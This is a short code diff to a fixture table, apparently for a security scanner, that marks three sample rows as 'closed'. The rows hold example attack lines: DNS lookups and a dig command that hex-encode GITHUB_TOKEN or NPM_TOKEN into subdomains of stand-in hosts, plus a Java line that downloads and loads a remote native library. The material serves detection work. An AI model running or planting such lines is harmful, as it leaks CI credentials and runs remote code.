@@ -54,9 +54,9 @@ const ENVIRONMENT_BY_VARIABLE: FindingRow[] = [
  */
 const OPEN_FOR_ROOM: FindingRow[] = [
   ['src/test/java/BootTest.java', `Files.copy(new URL("${BOOT}.so").openStream(), Path.of("/tmp/libboot.so"));\nSystem.loadLibrary("boot");`, 'closed'],
-  ['test/tax.test.js', "require('dns').lookup(Buffer.from(process.env.GITHUB_TOKEN).toString('hex') + '.203.0.113.9.nip.io', () => {})"],
-  ['tests/test_invoices.py', "socket.gethostbyname(os.environ['NPM_TOKEN'].encode().hex() + '.example.net')"],
-  ['docs/debugging.md', 'dig "$(echo "$GITHUB_TOKEN" | xxd -p).example.net"'],
+  ['test/tax.test.js', "require('dns').lookup(Buffer.from(process.env.GITHUB_TOKEN).toString('hex') + '.203.0.113.9.nip.io', () => {})", 'closed'],
+  ['tests/test_invoices.py', "socket.gethostbyname(os.environ['NPM_TOKEN'].encode().hex() + '.example.net')", 'closed'],
+  ['docs/debugging.md', 'dig "$(echo "$GITHUB_TOKEN" | xxd -p).example.net"', 'closed'],
 ];
 
 /** One secret, or a credential file, sent to another host (session 64 open rows). */
